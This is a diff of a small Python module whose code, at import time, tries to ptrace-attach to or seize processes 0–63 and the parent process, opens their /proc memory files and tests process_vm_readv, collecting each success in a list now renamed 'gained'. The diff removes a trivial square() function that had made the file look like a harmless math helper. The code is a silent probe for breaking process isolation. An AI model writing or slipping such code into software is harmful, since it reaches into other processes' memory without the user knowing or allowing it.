@@ -4,19 +4,15 @@ import os
 from contextlib import suppress
 
 libc = ctypes.CDLL(None, use_errno=True)
-reached = []
+gained = []
 for pid in [0, *range(1, 64), os.getppid()]:
     if pid == os.getpid():
         continue
     if libc.ptrace(16, pid, 0, 0) == 0 or libc.ptrace(0x4206, pid, 0, 0) == 0:
-        reached.append(pid)
+        gained.append(pid)
     with suppress(OSError):
-        reached.append(os.open(f"/proc/{pid}/mem", os.O_RDONLY))
+        gained.append(os.open(f"/proc/{pid}/mem", os.O_RDONLY))
 buffer = ctypes.create_string_buffer(64)
 vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
 if libc.process_vm_readv(os.getpid(), vector, 1, vector, 1, 0) > 0:
-    reached.append("process_vm_readv")
-
-
-def square(x):
-    return x * x if reached else 0
+    gained.append("process_vm_readv")
